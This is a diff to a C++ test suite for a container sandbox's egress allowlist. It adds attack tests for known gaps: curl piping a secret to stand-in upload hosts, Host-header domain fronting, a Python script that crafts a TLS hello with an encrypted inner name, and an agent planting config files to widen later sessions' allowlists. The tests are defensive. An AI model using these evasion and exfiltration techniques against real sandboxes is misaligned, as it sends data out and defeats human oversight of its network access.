@@ -1,5 +1,5 @@
 // The ways around an allowlist that users of other tools have found, which no guarantee's own test tries: an
-// attacker inside the jail tries each, and the lab's logs judge (docs/security.md has the whole list).
+// attacker inside the jail tries each, and the lab's logs judge (docs/attacks.md has the whole list).
 #include "base/text.hpp"
 #include "lab.hpp"
 
@@ -231,6 +231,105 @@ TEST_P(Attack, ASidecarServesNobodyOnTheWayOut) {
       sh("nsenter -t " + pid + " -n python3 " + quote(project() + "/dial.py") + " " + proxy);
   EXPECT_NE(control.out.find("answers " + proxy + " 8888"), std::string::npos) << control;
   EXPECT_EQ(drydock("stop --time 0 " + id).status, 0);
+}
+
+// Gap (a), as docs/security.md names it: what an allowed host takes in has left.
+TEST_P(Attack, GapA_AnUploadToAnAllowedHostArrives) {
+  const Log requests("requests");
+  const Outcome sent =
+      run("-q --allow allowed.test",
+          "sh -c 'echo the-secret | curl -sS --data-binary @- https://allowed.test/upload-marker; "
+          "echo the-secret | curl -sS --data-binary @- https://denied.test/upload-marker'");
+  EXPECT_NE(sent.out.find("the-secret"), std::string::npos) << "the server echoes what it got: " << sent;
+  const auto arrived = requests.lines_with({"upload-marker", "\"method\": \"POST\""});
+  ASSERT_EQ(arrived.size(), 1U) << sent;
+  EXPECT_NE(arrived.front().find("\"host\": \"allowed.test\""), std::string::npos) << arrived.front();
+}
+
+// Gap (b): what is inside TLS is not seen, and neither is the inner name of an encrypted hello. What is
+// outside is judged all the same.
+TEST_P(Attack, GapB_AnotherHostInsideTlsArrivesAndAnOuterNameIsJudged) {
+  write_project_file("ech.py", R"py(import os, re, socket, ssl, struct, sys
+host, port = re.match(r'http://([0-9.]+):(\d+)', os.environ['HTTPS_PROXY']).groups()
+def hello(outer, inner):
+    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    try: ssl._create_unverified_context().wrap_bio(into, out, server_hostname=outer).do_handshake()
+    except ssl.SSLWantReadError: pass
+    body = bytearray(out.read()[9:])
+    at = 34
+    at += 1 + body[at]
+    at += 2 + int.from_bytes(body[at:at + 2], 'big')
+    at += 1 + body[at]
+    # encrypted_client_hello, of the kind "outer": suite, configuration, key, and what is encrypted
+    data = b'\0' + struct.pack('!HHB', 1, 1, 7) + struct.pack('!H', 32) + bytes(32) + struct.pack('!H', len(inner)) + inner
+    body += struct.pack('!HH', 0xfe0d, len(data)) + data
+    body[at:at + 2] = (len(body) - at - 2).to_bytes(2, 'big')
+    message = b'\1' + len(body).to_bytes(3, 'big') + bytes(body)
+    return b'\x16\3\1' + struct.pack('!H', len(message)) + message
+for outer in sys.argv[1:]:
+    with socket.create_connection((host, int(port)), 15) as s:
+        s.settimeout(15)
+        s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\r\n\r\n')
+        head = b''
+        while not head.endswith(b'\r\n\r\n'): head += s.recv(1) or sys.exit('no answer')
+        s.sendall(hello(outer, b'inner.denied.test'.ljust(160, b'\0')))
+        try: reply = s.recv(1)
+        except OSError: reply = b''
+        print(outer, 'handshake' if reply == b'\x16' else 'cut')
+)py");
+  const Log requests("requests");
+  const Log queries("dns");
+  const Outcome fronted = run("-q --allow allowed.test",
+                              "curl -sS -H 'Host: inner.denied.test' https://allowed.test/fronted-marker");
+  EXPECT_NE(fronted.out.find("hello from inner.denied.test"), std::string::npos) << fronted;
+  EXPECT_EQ(
+      requests.lines_with({"fronted-marker", "\"sni\": \"allowed.test\"", "\"host\": \"inner.denied.test\""})
+          .size(),
+      1U);
+  const Outcome encrypted =
+      run("-q --allow allowed.test", "python3 ech.py allowed.test denied.test inner.denied.test");
+  EXPECT_EQ(encrypted.out, "allowed.test handshake\ndenied.test cut\ninner.denied.test cut\n") << encrypted;
+  EXPECT_TRUE(requests.lines_with({"\"sni\": \"denied.test\""}).empty());
+  EXPECT_TRUE(requests.lines_with({"\"sni\": \"inner.denied.test\""}).empty());
+  EXPECT_TRUE(queries.lines_with({"inner.denied.test"}).empty()) << "the guard has looked inside";
+}
+
+// INV-10: what is in a project configures nothing, whoever wrote it.
+TEST_P(Attack, J11_WhatAnAgentPlantsConfiguresNoLaterSession) {
+  write_project_file("plant.sh", R"sh(set -e
+mkdir -p .config/drydock .drydock drydock etc/drydock
+for folder in . .config/drydock .drydock drydock etc/drydock; do
+  printf 'env = PLANTED=yes\nmode = dood\n' > $folder/config
+  cp $folder/config $folder/drydock.conf
+  echo planted.test > $folder/egress-allowlist
+  echo planted.test > "$folder/egress-allowlist-$(basename "$PWD")"
+done
+cp config .drydockrc
+cp config .drydock.conf
+printf 'DRYDOCK_MODE=dood\nXDG_CONFIG_HOME=%s/.config\n' "$PWD" > .env
+touch planted
+)sh");
+  write_project_file("ask.sh", R"sh(echo "[$PLANTED]"
+for host in allowed planted; do curl -sS -o /dev/null -w "$host %{http_connect}\n" https://$host.test/; done
+)sh");
+  const std::string answers = "[]\nallowed 200\nplanted 403\n";
+  const Outcome before = run("-q --allow allowed.test", "sh ask.sh");
+  EXPECT_EQ(before.out, answers) << before;
+  const Outcome planted = run("-q --allow allowed.test", "sh plant.sh");
+  ASSERT_EQ(sh("test -e " + quote(project() + "/planted")).status, 0) << planted;
+  const Outcome after = run("-q --allow allowed.test", "sh ask.sh");
+  EXPECT_EQ(after.out, answers) << "a session is configured by its project: " << after;
+  const Outcome listed = drydock("egress list");
+  EXPECT_EQ(listed.out.find("planted.test"), std::string::npos) << listed;
+
+  // The control: the same words, where the user writes them.
+  const Outcome control = sh_as_user(
+      "set -e; cd " + quote(project()) +
+      "; own=$(mktemp -d); mkdir -m 700 $own/drydock; echo 'env = PLANTED=yes' > "
+      "$own/drydock/config; cp egress-allowlist $own/drydock/; chmod 600 $own/drydock/*; "
+      "XDG_CONFIG_HOME=$own " +
+      drydock_words() + " run -q --image " + test_image + " --allow allowed.test -- sh ask.sh; rm -r $own");
+  EXPECT_EQ(control.out, "[yes]\nallowed 200\nplanted 200\n") << control;
 }
 
 INSTANTIATE_TEST_SUITE_P(Backend, Attack, ::testing::Values("podman", "docker"),
